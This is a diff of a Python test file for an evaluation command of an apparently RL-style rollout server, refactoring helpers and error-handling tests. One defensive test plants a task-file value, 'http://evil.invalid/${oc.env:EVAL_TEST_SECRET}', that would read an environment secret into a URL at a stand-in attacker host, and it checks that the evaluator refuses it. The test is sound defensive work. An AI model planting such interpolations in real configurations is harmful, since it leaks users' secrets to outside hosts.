@@ -13,9 +13,9 @@ from pathlib import Path
 
 import pytest
 import yaml
-from test_handout import _start, _step  # the buffer service with fake sockets
+from service_harness import start, step  # the buffer service with fake sockets
 
-from areal_like.settings.config import EvalConfig, TaskConfig
+from areal_like.settings.config import BufferConfig, EvalConfig, TaskConfig
 from areal_like.wire import protocol as P
 from rollout_server.evaluate import EvalSchedule, main, read_done_versions, summarize
 
@@ -23,18 +23,20 @@ from rollout_server.evaluate import EvalSchedule, main, read_done_versions, summ
 _SETTINGS = type("Settings", (), {"eval": EvalConfig(), "task": TaskConfig()})()
 
 
-@pytest.mark.parametrize("every,at_start,at_end,done,due", [
+@pytest.mark.parametrize("every,at_start,at_end,done,due,words", [
     # every=5, 20 steps: 0 (baseline), 5, 10, 15, 20 (final)
-    (5, True, True, set(), [0, 5, 10, 15, 20]),
-    (5, False, True, set(), [5, 10, 15, 20]),
-    (5, True, False, set(), [0, 5, 10, 15]),
-    (0, True, True, set(), [20]),  # every=0: only the final one (no baseline without every)
-    (0, True, False, set(), []),
+    (5, True, True, set(), [0, 5, 10, 15, 20], "at the start, every 5 versions and at version 20"),
+    (5, False, True, set(), [5, 10, 15, 20], "every 5 versions and at version 20"),
+    (5, True, False, set(), [0, 5, 10, 15], "at the start and every 5 versions"),
+    # every=0: only the final one (no baseline without every)
+    (0, True, True, set(), [20], "at version 20"),
+    (0, True, False, set(), [], "never"),
     # a restarted server does not repeat what eval.jsonl holds
-    (5, True, True, {0, 5}, [10, 15, 20]),
+    (5, True, True, {0, 5}, [10, 15, 20], "at the start, every 5 versions and at version 20"),
 ])
-def test_schedule_versions_when_every_version_is_seen(every, at_start, at_end, done, due):
+def test_schedule_versions_when_every_version_is_seen(every, at_start, at_end, done, due, words):
     s = EvalSchedule(EvalConfig(every=every, at_start=at_start, at_end=at_end), steps=20, done=done)
+    assert s.describe() == words
     seen = []
     for v in range(0, 21):
         if s.due(v):
@@ -66,89 +68,75 @@ def test_summarize_hand_computed():
     assert "mean@0" not in summarize([1.0], [[]], k=0)
 
 
-def _tracked_generate(pick):
-    """(a stand-in for ``generate_sample``, the set of its calls still running): ``pick(ids,
-    sampling)`` says what a call does: ``"hang"`` (until cancelled), ``"refuse"`` (the engine's
-    400) or None (answers)."""
-    import asyncio
-    from types import SimpleNamespace
+class _TrackedEngine:
+    """/generate as ``pick(ids, params)`` says: ``"hang"`` (until cancelled), ``"refuse"`` (the
+    engine's 400) or None (answers); ``running`` holds the calls not finished."""
 
-    from areal_like.net.sglang_client import EngineError
+    def __init__(self, pick):
+        self.pick, self.running = pick, set()
 
-    running: set[int] = set()
+    async def generate(self, input_ids, params):
+        import asyncio
 
-    async def generate(client, ids, sampling, max_new_tokens, version_fn):
-        running.add(id(asyncio.current_task()))
+        from areal_like.net.sglang_client import EngineError, GenerateOutput
+
+        self.running.add(id(asyncio.current_task()))
         try:
-            how = pick(ids, sampling)
+            how = self.pick(input_ids, params)
             if how == "refuse":
                 raise EngineError("/generate", 400, "prompt too long")
             if how == "hang":
                 await asyncio.Event().wait()
-            return SimpleNamespace(versions=[0], output_ids=[1])
+            return GenerateOutput(rid="r", output_ids=[1], logprobs=[-0.1], finish_reason="stop",
+                                  finish_message="", abort_status=None, weight_version="0")
         finally:
-            running.discard(id(asyncio.current_task()))
-
-    return generate, running
+            self.running.discard(id(asyncio.current_task()))
 
 
-def test_a_reward_that_cannot_load_stops_every_eval_request_before_evaluate_returns(monkeypatch):
-    """``areal-like eval`` closes its client and engine right after ``evaluate`` raises: a request
-    still running then opened a new HTTP session nobody closed ("Unclosed client session")."""
+def _evaluate_tracked(engine, rewards, n, ev):
+    """``evaluate`` of n prompts on ``engine``; (its result or the error it raised, the engine's
+    calls still running when it returned)."""
     import asyncio
     from types import SimpleNamespace
 
-    import rollout_server.evaluate as E
-    from rollout_server.reward_pool import RewardPoolError
+    from rollout_server.evaluate import evaluate
 
-    # every prompt but the first is still generating
-    generate, running = _tracked_generate(lambda ids, sampling: "hang" if ids[0] > 0 else None)
+    async def run():
+        try:
+            out = await asyncio.wait_for(evaluate(
+                engine, [SimpleNamespace(prompt=str(i), index=i, answer="") for i in range(n)],
+                lambda ex: [ex.index], str, rewards, ev, TaskConfig(), [], lambda: 0), 10)
+        except Exception as e:  # noqa: BLE001 - the caller asserts which
+            out = e
+        return out, set(engine.running)
+
+    return asyncio.run(run())
+
+
+def test_a_reward_that_cannot_load_stops_every_eval_request_before_evaluate_returns():
+    """``areal-like eval`` closes its client and engine right after ``evaluate`` raises: a request
+    still running then opened a new HTTP session nobody closed ("Unclosed client session")."""
+    from rollout_server.reward_pool import RewardPoolError
 
     class Rewards:
         async def score_group(self, prompt, responses, example):
             raise RewardPoolError("task.reward_fn='m:f' cannot be loaded in a reward worker")
 
-    monkeypatch.setattr(E, "generate_sample", generate)
-    examples = [SimpleNamespace(prompt=str(i), index=i) for i in range(4)]
-
-    async def run():
-        with pytest.raises(RewardPoolError):
-            await E.evaluate(None, examples, lambda ex: [ex.index], str, Rewards(),
-                             EvalConfig(k=1), TaskConfig(), [], lambda: 0)
-        return set(running)
-
-    assert asyncio.run(run()) == set()
+    # every prompt but the first is still generating
+    engine = _TrackedEngine(lambda ids, params: "hang" if ids[0] > 0 else None)
+    out, left = _evaluate_tracked(engine, Rewards(), 4, EvalConfig(k=1))
+    assert isinstance(out, RewardPoolError) and left == set()
 
 
-def test_a_refused_eval_request_stops_its_prompts_other_requests_before_evaluate_returns(
-        monkeypatch):
+def test_a_refused_eval_request_stops_its_prompts_other_requests_before_evaluate_returns():
     """One of a prompt's requests refused (EngineError: the prompt is counted in ``errors``): its
     greedy/sampled siblings were left running past ``evaluate`` (a plain gather), against a
     client its caller closes next."""
-    import asyncio
-    from types import SimpleNamespace
+    def pick(ids, params):  # prompt 0: its greedy request refused, its samples still generating
+        return None if ids[0] else "refuse" if params["temperature"] == 0.0 else "hang"
 
-    import rollout_server.evaluate as E
-
-    def pick(ids, sampling):  # prompt 0: its greedy request refused, its samples still generating
-        return None if ids[0] else "refuse" if sampling["temperature"] == 0.0 else "hang"
-
-    generate, running = _tracked_generate(pick)
-
-    class Rewards:
-        async def score_group(self, prompt, responses, example):
-            return [(1.0, None) for _ in responses]
-
-    monkeypatch.setattr(E, "generate_sample", generate)
-    examples = [SimpleNamespace(prompt=str(i), index=i) for i in range(2)]
-
-    async def run():
-        out = await asyncio.wait_for(
-            E.evaluate(None, examples, lambda ex: [ex.index], str, Rewards(),
-                       EvalConfig(k=2, temperature=1.0), TaskConfig(), [], lambda: 0), 10)
-        return out, set(running)
-
-    out, left = asyncio.run(run())
+    out, left = _evaluate_tracked(_TrackedEngine(pick), _Rewards(), 2,
+                                  EvalConfig(k=2, temperature=1.0))
     assert out["errors"] == 1 and out["n"] == 1
     assert left == set()
 
@@ -202,20 +190,29 @@ def test_an_eval_path_on_a_synthetic_tasks_export_names_the_key_given(tmp_path, 
     assert err.startswith("error: task.eval_path=") and "add task=dataset" in err, err
 
 
-def test_an_out_file_that_cannot_be_written_never_loses_the_evaluation(tmp_path, capsys,
-                                                                        monkeypatch):
-    """``--out`` naming a directory: the record is printed all the same, then one error line and
-    exit 2 (before: a traceback after the whole evaluation, and no record anywhere)."""
+def _main_evaluating(tmp_path, monkeypatch, argv, evaluated):
+    """``main([export, *argv])`` with the config load and the evaluation replaced: ``evaluated``
+    is the record (or raises); returns (exit code, the overrides the config load got)."""
     import rollout_server.evaluate as evaluate
 
     export = tmp_path / "v00000003"
     export.mkdir()
     (export / "config.json").write_text("{}")
+    seen = []
     monkeypatch.setattr(evaluate, "_eval_config", lambda model, config_file, overrides:
-                        (_SETTINGS, None))
+                        (seen.append(overrides) or _SETTINGS, None))
     monkeypatch.setattr(evaluate, "_evaluate_path", lambda model, cfg, config_file, samples:
-                        {"policy_version": 3, "greedy_accuracy": 0.5})
-    assert main([str(export), "--out", str(tmp_path)]) == 2
+                        evaluated())
+    return main([str(export), *argv]), seen
+
+
+def test_an_out_file_that_cannot_be_written_never_loses_the_evaluation(tmp_path, capsys,
+                                                                        monkeypatch):
+    """``--out`` naming a directory: the record is printed all the same, then one error line and
+    exit 2 (before: a traceback after the whole evaluation, and no record anywhere)."""
+    rc, _ = _main_evaluating(tmp_path, monkeypatch, ["--out", str(tmp_path)],
+                             lambda: {"policy_version": 3, "greedy_accuracy": 0.5})
+    assert rc == 2
     out, err = capsys.readouterr()
     assert json.loads(out)["greedy_accuracy"] == 0.5, out
     assert err.startswith("[eval] sampling at temperature ") and err.count("\n") == 2, err
@@ -223,16 +220,16 @@ def test_an_out_file_that_cannot_be_written_never_loses_the_evaluation(tmp_path,
 
 
 def test_an_evaluating_server_is_out_of_the_roster_until_it_says_it_is_done(tmp_path):
-    svc = _start(tmp_path)  # the real buffer service with fake sockets (test_handout.py)
+    svc = start(tmp_path, BufferConfig())
     try:
         for sid in ("a", "b"):
-            _step(svc, P.Register(server_id=sid, engine_url=f"http://{sid}", policy_version=0))
-        assert [m.server_id for m in _step(svc, P.RosterRequest()).members] == ["a", "b"]
-        _step(svc, P.Heartbeat(server_id="a", policy_version=3, evaluating=True))
-        roster = _step(svc, P.RosterRequest())
+            step(svc, P.Register(server_id=sid, engine_url=f"http://{sid}", policy_version=0))
+        assert [m.server_id for m in step(svc, P.RosterRequest()).members] == ["a", "b"]
+        step(svc, P.Heartbeat(server_id="a", policy_version=3, evaluating=True))
+        roster = step(svc, P.RosterRequest())
         assert [m.server_id for m in roster.members] == ["b"] and roster.evaluating == ["a"]
-        _step(svc, P.Heartbeat(server_id="a", policy_version=3))  # done: back in the next sync
-        roster = _step(svc, P.RosterRequest())
+        step(svc, P.Heartbeat(server_id="a", policy_version=3))  # done: back in the next sync
+        roster = step(svc, P.RosterRequest())
         assert [m.server_id for m in roster.members] == ["a", "b"] and roster.evaluating == []
     finally:
         svc.stop()
@@ -413,20 +410,13 @@ def test_eval_of_a_split_the_engine_refuses_whole_is_one_error_line(tmp_path, ca
                                                                     monkeypatch):
     """``areal-like eval`` on an eval file whose every prompt is longer than the model's context:
     one error line naming the refusal, exit 2 (before: a traceback)."""
-    import rollout_server.evaluate as evaluate
     from areal_like.net.sglang_client import EngineError
 
-    def refused(model, cfg, config_file, samples):
+    def refused():
         raise EngineError("/generate", 400, "every eval prompt failed; the first: The input "
                           "(406 tokens) is longer than the model's context length (256 tokens).")
 
-    export = tmp_path / "v00000003"
-    export.mkdir()
-    (export / "config.json").write_text("{}")
-    monkeypatch.setattr(evaluate, "_eval_config", lambda model, config_file, overrides:
-                        (_SETTINGS, None))
-    monkeypatch.setattr(evaluate, "_evaluate_path", refused)
-    assert main([str(export)]) == 2
+    assert _main_evaluating(tmp_path, monkeypatch, [], refused)[0] == 2
     out, err = capsys.readouterr()
     assert out == "" and err.startswith("error: /generate: HTTP 400: every eval prompt failed")
     assert err.count("\n") == 1 and "context length" in err, err
@@ -516,17 +506,6 @@ def test_a_running_count_is_a_counter_brought_up_to_its_total():
     assert m.registry.get_sample_value("areal_trainer_groups_dropped_bad_data_total") == 5
 
 
-@pytest.mark.parametrize("every,at_start,at_end,words", [
-    (5, True, True, "at the start, every 5 versions and at version 20"),
-    (5, False, True, "every 5 versions and at version 20"),
-    (0, True, True, "at version 20"),  # every=0: no baseline either
-    (0, True, False, "never"),
-])
-def test_schedule_says_when_in_words(every, at_start, at_end, words):
-    ev = EvalConfig(every=every, at_start=at_start, at_end=at_end)
-    assert EvalSchedule(ev, steps=20).describe() == words
-
-
 def test_the_run_config_names_its_data_files_absolute_so_eval_reads_them_from_anywhere(
         tmp_path, monkeypatch):
     """config.yaml (``plan_job``'s config) holds ``task.*`` files absolute, as an export's task file
@@ -594,19 +573,11 @@ def test_overrides_after_out_reach_the_config(tmp_path, capsys, monkeypatch):
     """launch/OPERATIONS.md's ``areal-like eval MODEL [--out FILE] [overrides]``: overrides after
     ``--out FILE`` were 'unrecognized arguments' (argparse had given the positionals out before the
     flag), so ``--out e.jsonl eval.k=8`` could not run."""
-    import rollout_server.evaluate as evaluate
-
-    export = tmp_path / "v00000003"
-    export.mkdir()
-    (export / "config.json").write_text("{}")
-    seen = []
-    monkeypatch.setattr(evaluate, "_eval_config", lambda model, config_file, overrides:
-                        (seen.append(overrides) or _SETTINGS, None))
-    monkeypatch.setattr(evaluate, "_evaluate_path", lambda model, cfg, config_file, samples:
-                        {"policy_version": 3})
     out = tmp_path / "e.jsonl"
-    assert main([str(export), "--out", str(out), "eval.k=8", "task=reverse"]) == 0
-    assert seen == [["eval.k=8", "task=reverse"]], capsys.readouterr().err
+    rc, seen = _main_evaluating(tmp_path, monkeypatch, ["--out", str(out), "eval.k=8",
+                                                        "task=reverse"],
+                                lambda: {"policy_version": 3})
+    assert rc == 0 and seen == [["eval.k=8", "task=reverse"]], capsys.readouterr().err
     assert json.loads(out.read_text())["policy_version"] == 3
 
 
@@ -655,19 +626,19 @@ def _export_with_task(tmp_path, **task) -> Path:
     return export
 
 
-def test_an_exports_task_file_is_data_never_an_interpolation(tmp_path, monkeypatch):
+def test_an_exports_task_file_is_data_never_an_interpolation(tmp_path, monkeypatch, capsys):
     """``${oc.env:...}`` in a moved export's task file read the evaluator's environment into
     ``task.reward_url`` (every eval sample was then posted there); now it is refused, by name."""
-    from areal_like.settings.config import ConfigError
-    from rollout_server.evaluate import _eval_config, _version_of
-
     monkeypatch.setenv("EVAL_TEST_SECRET", "hunter2")
     export = _export_with_task(tmp_path, reward_url="http://evil.invalid/${oc.env:EVAL_TEST_SECRET}")
-    with pytest.raises(ConfigError, match=r"task.reward_url: .*is an interpolation"):
-        _eval_config(export, None, [])
+    assert main([str(export)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: task.reward_url: ") and "is an interpolation" in err, err
     (export / "areal_like_task.yaml").write_text("policy_version: ${oc.env:EVAL_TEST_SECRET}\n")
-    with pytest.raises(ConfigError, match="policy_version: .*is an interpolation"):
-        _version_of(export)
+    assert main([str(export)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and "policy_version: " in err, err
+    assert "is an interpolation" in err and "hunter2" not in err, err
 
 
 def test_an_exports_task_names_no_code_or_address_the_evaluator_did_not(tmp_path):
